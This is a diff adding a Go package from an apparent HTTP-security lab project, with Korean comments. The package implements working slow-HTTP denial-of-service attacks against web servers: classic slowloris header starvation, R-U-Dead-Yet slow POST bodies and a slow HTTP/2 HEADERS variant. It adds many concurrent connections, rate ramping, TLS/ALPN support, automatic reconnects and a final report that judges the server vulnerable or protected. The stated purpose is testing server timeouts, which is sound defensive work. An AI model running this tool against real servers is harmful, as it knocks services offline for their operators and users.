@@ -0,0 +1,510 @@
+// Package slowloris implements the attack simulations driven by
+// cmd/slowloris: classic header-starvation slowloris, R-U-Dead-Yet
+// (slow POST body), and a slow-HEADERS-frame HTTP/2 variant, plus the
+// non-destructive two-connection probe from cmd/slowloris's -probe mode.
+//
+// It's a separate package (rather than living in cmd/slowloris) so
+// integration tests can drive a real attack against the lab's server and
+// inspect the resulting Run, instead of only being reachable as a CLI.
+package slowloris
+
+import (
+	"bufio"
+	"context"
+	"fmt"
+	"net"
+	"net/http"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"github.com/ahwlsqja/go-http-lab/internal/histogram"
+	"github.com/ahwlsqja/go-http-lab/internal/logger"
+	"github.com/rs/zerolog"
+	"golang.org/x/sync/errgroup"
+	"golang.org/x/time/rate"
+)
+
+// Config holds slowloris configuration.
+type Config struct {
+	Target         string        // 타겟 서버 주소 (host:port)
+	NumConns       int           // 동시 연결 수
+	Delay          time.Duration // 헤더 라인 사이 딜레이
+	Duration       time.Duration // 총 실행 시간 (0 = 무제한)
+	KeepOpen       bool          // 헤더 완료 후에도 연결 유지
+	Debug          bool          // 디버그 로깅
+	ReportInterval time.Duration // 통계 리포트 간격
+	DrainTimeout   time.Duration // 종료 신호 후 진행 중인 연결을 자연 종료시킬 최대 대기 시간
+
+	Mode          string        // "headers" (기본, 고전 slowloris) 또는 "body" (R-U-Dead-Yet)
+	ContentLength int64         // -mode=body에서 보낼 Content-Length
+	BodyDelay     time.Duration // -mode=body에서 바디 1바이트당 딜레이
+
+	Probe          bool          // true면 플러드 대신 비파괴 취약점 점검만 수행
+	ProbeWait      time.Duration // A/B 헤더 전송 후 B에 추가 헤더를 보내기 전 대기 시간
+	ProbeThreshold time.Duration // B가 A보다 이만큼 늦게 닫히면 취약하다고 판단
+	ProbeTimeout   time.Duration // 각 프로브 연결의 닫힘을 기다리는 최대 시간
+	Output         string        // "text" (기본) 또는 "json" - probe 결과 출력 형식
+
+	ConnectRate  float64 // 초당 연결 시도 수 (모든 워커가 공유하는 토큰 버킷)
+	ConnectBurst int     // connect-rate 토큰 버킷의 버스트 크기
+	HeaderRate   float64 // 초당 헤더 라인 전송 수 (전역 공유, 0이면 -conns/-delay에서 유도)
+	HeaderBurst  int     // header-rate 토큰 버킷의 버스트 크기
+	Ramp         string  // "linear:60s" / "exponential:60s" - connect-rate를 서서히 끌어올림
+
+	MetricsFile string // 설정하면 매 리포트마다 JSONL로 한 줄씩 추가
+	MetricsAddr string // 설정하면 해당 주소에서 Prometheus text 형식 /metrics 제공
+
+	TLS         bool   // true면 net.DialTimeout으로 연 TCP 연결 위에서 tls.Client로 핸드셰이크
+	TLSInsecure bool   // TLS 인증서 검증 생략 (자체 서명 테스트 타겟용)
+	SNI         string // TLS ServerName 오버라이드 (기본: -target의 host)
+	ALPN        string // 콤마로 구분된 ALPN 프로토콜 목록, 예: "h2,http/1.1"
+}
+
+// Stats tracks attack statistics for a single Run.
+type Stats struct {
+	activeConns    atomic.Int64 // 현재 활성 연결 수
+	totalConns     atomic.Int64 // 총 시도한 연결 수
+	closedByServer atomic.Int64 // 서버가 닫은 연결 수 (timeout)
+	errors         atomic.Int64 // 연결 에러 수 (TCP dial 실패)
+	tlsErrors      atomic.Int64 // TLS 핸드셰이크 실패 수 (TCP dial은 성공)
+	headersSent    atomic.Int64 // 보낸 헤더 수 (headers 모드: 요청 줄 포함 라인당 1, body 모드: 헤더 블록 전체를 1, h2: SETTINGS/HEADERS/CONTINUATION 프레임당 1)
+	bodyBytesSent  atomic.Int64 // -mode=body에서 보낸 바디 바이트 수
+
+	connLifetime histogram.Histogram // 연결당 수명 (dial ~ close)
+}
+
+// Run holds the state of a single Execute call - its stats, logger, and the
+// set of currently-open connections so a drain timeout can force-close
+// whatever's left. It's returned once Execute's worker pool and stats
+// reporter have both drained and exited.
+type Run struct {
+	cfg Config
+	log zerolog.Logger
+
+	stats          Stats
+	headerLimiter  *rate.Limiter
+	connectLimiter *rate.Limiter
+
+	conns          sync.Map // net.Conn -> struct{}, open connections eligible for forced closure
+	forcedClosures atomic.Int64
+}
+
+// Execute runs a slowloris attack to completion: it opens connections at
+// -connect-rate (optionally ramped), holds each one open per -mode, and
+// keeps going until ctx is cancelled. On cancellation it stops opening new
+// connections, lets in-flight ones close naturally for up to
+// cfg.DrainTimeout, then force-closes whatever remains and reports how
+// many that was. It blocks until the drain completes and returns the
+// finished Run for the caller to inspect or print.
+func Execute(ctx context.Context, cfg Config) (*Run, error) {
+	r := &Run{cfg: cfg, log: logger.New(cfg.Debug)}
+
+	r.log.Info().
+		Str("target", cfg.Target).
+		Int("connections", cfg.NumConns).
+		Dur("delay", cfg.Delay).
+		Dur("duration", cfg.Duration).
+		Msg("starting slowloris attack simulation")
+
+	connectLimiter, err := buildConnectLimiter(ctx, cfg)
+	if err != nil {
+		return nil, fmt.Errorf("invalid -ramp: %w", err)
+	}
+	r.connectLimiter = connectLimiter
+
+	headerRate := cfg.HeaderRate
+	if headerRate <= 0 {
+		// -header-rate가 없으면 기존 -delay 기반 페이싱과 같은 속도가
+		// 나오도록 NumConns/Delay에서 유도한다.
+		headerRate = float64(cfg.NumConns) / cfg.Delay.Seconds()
+	}
+	r.headerLimiter = rate.NewLimiter(rate.Limit(headerRate), cfg.HeaderBurst)
+
+	sinks, closeSinks, err := r.buildSinks(ctx)
+	if err != nil {
+		return nil, err
+	}
+	defer closeSinks()
+
+	g, _ := errgroup.WithContext(ctx)
+	g.Go(func() error {
+		r.runWorkerPool(ctx)
+		return nil
+	})
+	g.Go(func() error {
+		r.runStatsReporter(ctx, sinks)
+		return nil
+	})
+	g.Wait() // 에러를 반환하는 멤버가 없으므로 둘 다 끝날 때까지 단순 대기
+
+	return r, nil
+}
+
+// runWorkerPool spawns cfg.NumConns workers, each pacing its own dials
+// (first connect and every reconnect) through r.connectLimiter, then waits
+// for ctx cancellation and drains: in-flight connections get up to
+// cfg.DrainTimeout to close on their own before being force-closed.
+func (r *Run) runWorkerPool(ctx context.Context) {
+	var wg sync.WaitGroup
+	for i := 0; i < r.cfg.NumConns; i++ {
+		wg.Add(1)
+		go func(id int) {
+			defer wg.Done()
+			r.slowlorisWorker(ctx, id)
+		}(i)
+	}
+
+	<-ctx.Done()
+	r.log.Info().Msg("shutdown signaled, draining in-flight connections...")
+
+	drained := make(chan struct{})
+	go func() {
+		wg.Wait()
+		close(drained)
+	}()
+
+	select {
+	case <-drained:
+		r.log.Info().Msg("all connections drained cleanly")
+	case <-time.After(r.cfg.DrainTimeout):
+		forced := r.forceCloseAll()
+		r.forcedClosures.Add(int64(forced))
+		r.log.Warn().
+			Int("forced_closures", forced).
+			Dur("drain_timeout", r.cfg.DrainTimeout).
+			Msg("drain timeout exceeded, force-closing remaining connections")
+		<-drained
+	}
+}
+
+// forceCloseAll closes every connection still tracked in r.conns and
+// returns how many it closed.
+func (r *Run) forceCloseAll() int {
+	n := 0
+	r.conns.Range(func(key, _ any) bool {
+		if conn, ok := key.(net.Conn); ok {
+			conn.Close()
+			n++
+		}
+		return true
+	})
+	return n
+}
+
+// slowlorisWorker는 단일 slowloris 연결을 관리한다.
+func (r *Run) slowlorisWorker(ctx context.Context, id int) {
+	cfg := r.cfg
+	for {
+		select {
+		case <-ctx.Done():
+			return
+		default:
+		}
+
+		// 연결 시도 - 최초 스폰 루프뿐 아니라 재연결할 때도 connect-rate
+		// 토큰 버킷을 거치게 해서, 서버가 느린 연결을 끊어낸 뒤에도
+		// -connect-rate/-ramp가 계속 유효하게 만든다.
+		if err := r.connectLimiter.Wait(ctx); err != nil {
+			return
+		}
+
+		dialStart := time.Now()
+		rawConn, err := net.DialTimeout("tcp", cfg.Target, 10*time.Second)
+		if err != nil {
+			r.stats.errors.Add(1)
+			r.log.Debug().Err(err).Int("worker", id).Msg("connection failed")
+			time.Sleep(cfg.Delay) // 재시도 전 대기
+			continue
+		}
+
+		conn := net.Conn(rawConn)
+		negotiatedH2 := false
+		if cfg.TLS {
+			tlsConn, negotiated, err := dialTLS(rawConn, cfg)
+			if err != nil {
+				r.stats.tlsErrors.Add(1)
+				r.log.Debug().Err(err).Int("worker", id).Msg("tls handshake failed")
+				rawConn.Close()
+				time.Sleep(cfg.Delay) // 재시도 전 대기
+				continue
+			}
+			conn = tlsConn
+			negotiatedH2 = negotiated == "h2"
+		}
+
+		r.stats.totalConns.Add(1)
+		r.stats.activeConns.Add(1)
+		r.conns.Store(conn, struct{}{})
+
+		r.log.Debug().Int("worker", id).Str("local", conn.LocalAddr().String()).Bool("h2", negotiatedH2).Msg("connected")
+
+		// 공격 수행 - ALPN으로 h2가 협상됐으면 HEADERS 프레임을 미완성 상태로
+		// 붙들고, 아니면 -mode에 따라 헤더를 천천히 보내거나 (headers),
+		// 바디를 천천히 흘려보낸다 (body, R-U-Dead-Yet)
+		var closedByServer bool
+		switch {
+		case negotiatedH2:
+			closedByServer = r.performSlowHTTP2(ctx, conn, id)
+		case cfg.Mode == "body":
+			closedByServer = r.performSlowBody(ctx, conn, id)
+		default:
+			closedByServer = r.performSlowloris(ctx, conn, id)
+		}
+
+		r.conns.Delete(conn)
+		conn.Close()
+		r.stats.activeConns.Add(-1)
+		r.stats.connLifetime.Record(time.Since(dialStart))
+
+		if closedByServer {
+			r.stats.closedByServer.Add(1)
+			r.log.Debug().Int("worker", id).Msg("connection closed by server (timeout?)")
+		}
+
+		// 재연결 전 약간의 대기
+		select {
+		case <-ctx.Done():
+			return
+		case <-time.After(100 * time.Millisecond):
+		}
+	}
+}
+
+// performSlowloris는 단일 연결에서 slowloris 공격을 수행한다.
+// 헤더 사이 페이싱은 r.headerLimiter(전역 -header-rate 토큰 버킷)가 맡는다.
+// 서버가 연결을 끊으면 true를 반환한다.
+func (r *Run) performSlowloris(ctx context.Context, conn net.Conn, id int) bool {
+	cfg := r.cfg
+	reader := bufio.NewReader(conn)
+
+	// HTTP 요청 시작 (첫 줄)
+	_, err := fmt.Fprintf(conn, "GET /?worker=%d HTTP/1.1\r\n", id)
+	if err != nil {
+		return true
+	}
+	r.stats.headersSent.Add(1)
+
+	// Host 헤더 (필수)
+	if err := r.headerLimiter.Wait(ctx); err != nil {
+		return false
+	}
+
+	_, err = fmt.Fprintf(conn, "Host: %s\r\n", cfg.Target)
+	if err != nil {
+		return true
+	}
+	r.stats.headersSent.Add(1)
+
+	// User-Agent 헤더
+	if err := r.headerLimiter.Wait(ctx); err != nil {
+		return false
+	}
+
+	_, err = conn.Write([]byte("User-Agent: slowloris-go/1.0\r\n"))
+	if err != nil {
+		return true
+	}
+	r.stats.headersSent.Add(1)
+
+	// 추가 헤더를 계속 보내서 연결 유지
+	headerNum := 0
+	for {
+		if err := r.headerLimiter.Wait(ctx); err != nil {
+			return false
+		}
+
+		// 서버가 응답을 보내는지 확인 (non-blocking)
+		if done, closedByServer := r.pollServerClosed(conn, reader, id); done {
+			return closedByServer
+		}
+
+		// 커스텀 헤더 보내기 (절대 \r\n\r\n을 보내지 않음!)
+		headerNum++
+		headerLine := fmt.Sprintf("X-Slowloris-%d: %d\r\n", headerNum, time.Now().UnixNano())
+		_, err = conn.Write([]byte(headerLine))
+		if err != nil {
+			return true // 서버가 연결 끊음
+		}
+		r.stats.headersSent.Add(1)
+
+		if !cfg.KeepOpen && headerNum >= 10 {
+			// keep-open이 false면 10개 헤더 후 종료
+			return false
+		}
+	}
+}
+
+// performSlowBody는 R-U-Dead-Yet (slow POST) 공격을 수행한다.
+// 헤더는 정상적으로 끝내고(\r\n\r\n), 선언한 Content-Length보다 훨씬 느리게
+// 바디를 한 바이트씩 흘려보낸다. ReadHeaderTimeout은 이미 헤더를 다 받았으니
+// 도움이 안 되고, ReadTimeout/바디 read deadline만 이 공격을 막을 수 있다.
+// performSlowloris와 마찬가지로 서버가 연결을 끊으면 true를 반환한다.
+func (r *Run) performSlowBody(ctx context.Context, conn net.Conn, id int) bool {
+	cfg := r.cfg
+	reader := bufio.NewReader(conn)
+
+	_, err := fmt.Fprintf(conn, "POST /?worker=%d HTTP/1.1\r\n", id)
+	if err != nil {
+		return true
+	}
+	_, err = fmt.Fprintf(conn, "Host: %s\r\n", cfg.Target)
+	if err != nil {
+		return true
+	}
+	_, err = fmt.Fprintf(conn, "Content-Type: application/octet-stream\r\n")
+	if err != nil {
+		return true
+	}
+	_, err = fmt.Fprintf(conn, "Content-Length: %d\r\n\r\n", cfg.ContentLength)
+	if err != nil {
+		return true
+	}
+	r.stats.headersSent.Add(1)
+
+	// 바디를 한 바이트씩, body-delay 간격으로 드립 전송
+	var sent int64
+	for sent < cfg.ContentLength {
+		select {
+		case <-ctx.Done():
+			return false
+		case <-time.After(cfg.BodyDelay):
+		}
+
+		if done, closedByServer := r.pollServerClosed(conn, reader, id); done {
+			return closedByServer
+		}
+
+		if _, err := conn.Write([]byte{'x'}); err != nil {
+			return true // 서버가 연결 끊음
+		}
+		sent++
+		r.stats.bodyBytesSent.Add(1)
+	}
+
+	// 선언한 Content-Length를 다 보냈으면 서버 응답을 기다리지 않고 바로
+	// 반환한다 (서버가 끊은 것이 아니므로 false)
+	return false
+}
+
+// pollServerClosed는 non-blocking peek으로 서버가 응답을 보냈거나 연결을
+// 끊었는지 확인한다. done이 true면 호출자는 즉시 리턴해야 하고, 그 값은
+// closedByServer로 그대로 전달하면 된다.
+func (r *Run) pollServerClosed(conn net.Conn, reader *bufio.Reader, id int) (done bool, closedByServer bool) {
+	conn.SetReadDeadline(time.Now().Add(1 * time.Millisecond))
+	_, err := reader.Peek(1)
+	conn.SetReadDeadline(time.Time{}) // deadline 해제
+
+	if err == nil {
+		// 서버가 응답을 보냄 - 연결이 진행됨 (예상치 못한 상황)
+		r.log.Debug().Int("worker", id).Msg("server sent response unexpectedly")
+		return true, false
+	}
+
+	// 타임아웃이 아닌 다른 에러면 서버가 연결을 끊은 것
+	if netErr, ok := err.(net.Error); !ok || !netErr.Timeout() {
+		return true, true
+	}
+
+	return false, false
+}
+
+// runStatsReporter는 주기적으로 통계 스냅샷을 만들어 등록된 모든 sink에 보고한다.
+func (r *Run) runStatsReporter(ctx context.Context, sinks []StatsSink) {
+	ticker := time.NewTicker(r.cfg.ReportInterval)
+	defer ticker.Stop()
+
+	for {
+		select {
+		case <-ctx.Done():
+			return
+		case <-ticker.C:
+			snap := Snapshot{
+				Time:           time.Now(),
+				ActiveConns:    r.stats.activeConns.Load(),
+				TotalConns:     r.stats.totalConns.Load(),
+				ClosedByServer: r.stats.closedByServer.Load(),
+				Errors:         r.stats.errors.Load(),
+				TLSErrors:      r.stats.tlsErrors.Load(),
+				HeadersSent:    r.stats.headersSent.Load(),
+				BodyBytesSent:  r.stats.bodyBytesSent.Load(),
+			}
+			for _, sink := range sinks {
+				sink.Report(snap)
+			}
+		}
+	}
+}
+
+// buildSinks assembles the StatsSinks for this run: zerolog is always on,
+// -metrics-file and -metrics-addr each add one more. It returns a closer
+// that closes the JSONL file; the Prometheus server is closed separately,
+// when ctx is cancelled.
+func (r *Run) buildSinks(ctx context.Context) ([]StatsSink, func(), error) {
+	sinks := []StatsSink{zerologSink{log: r.log}}
+	var closers []func()
+
+	if r.cfg.MetricsFile != "" {
+		jl, err := newJSONLSink(r.cfg.MetricsFile, r.log)
+		if err != nil {
+			return nil, nil, fmt.Errorf("opening -metrics-file: %w", err)
+		}
+		sinks = append(sinks, jl)
+		closers = append(closers, func() { jl.Close() })
+	}
+
+	if r.cfg.MetricsAddr != "" {
+		ps := newPromSink(&r.stats)
+		sinks = append(sinks, ps)
+
+		mux := http.NewServeMux()
+		mux.Handle("/metrics", ps.Handler())
+		server := &http.Server{Addr: r.cfg.MetricsAddr, Handler: mux}
+		go func() {
+			if err := server.ListenAndServe(); err != nil && err != http.ErrServerClosed {
+				r.log.Error().Err(err).Msg("metrics server failed")
+			}
+		}()
+		go func() {
+			<-ctx.Done()
+			server.Close()
+		}()
+		r.log.Info().Str("addr", r.cfg.MetricsAddr).Msg("serving Prometheus metrics")
+	}
+
+	return sinks, func() {
+		for _, c := range closers {
+			c()
+		}
+	}, nil
+}
+
+// PrintFinalStats prints a human-readable summary of the run to stdout,
+// including a DoS-protection verdict based on whether the server ever
+// closed a slow connection on its own.
+func (r *Run) PrintFinalStats() {
+	sep := strings.Repeat("=", 60)
+	fmt.Println("\n" + sep)
+	fmt.Println("SLOWLORIS ATTACK SIMULATION RESULTS")
+	fmt.Println(sep)
+	fmt.Printf("Total connections attempted: %d\n", r.stats.totalConns.Load())
+	fmt.Printf("Connections closed by server: %d\n", r.stats.closedByServer.Load())
+	fmt.Printf("Connection errors: %d\n", r.stats.errors.Load())
+	fmt.Printf("TLS handshake errors: %d\n", r.stats.tlsErrors.Load())
+	fmt.Printf("Total headers sent: %d\n", r.stats.headersSent.Load())
+	fmt.Printf("Total body bytes sent: %d\n", r.stats.bodyBytesSent.Load())
+	fmt.Printf("Forced closures at drain timeout: %d\n", r.forcedClosures.Load())
+	fmt.Println(sep)
+
+	if r.stats.closedByServer.Load() > 0 {
+		fmt.Println("\n[ANALYSIS]")
+		fmt.Println("Server closed connections - likely due to ReadHeaderTimeout.")
+		fmt.Println("This is GOOD server configuration for DoS protection!")
+	} else if r.stats.totalConns.Load() > 0 && r.stats.closedByServer.Load() == 0 {
+		fmt.Println("\n[ANALYSIS]")
+		fmt.Println("Server did NOT close slow connections!")
+		fmt.Println("This server may be VULNERABLE to slowloris attacks.")
+		fmt.Println("Recommendation: Set ReadHeaderTimeout in http.Server config.")
+	}
+}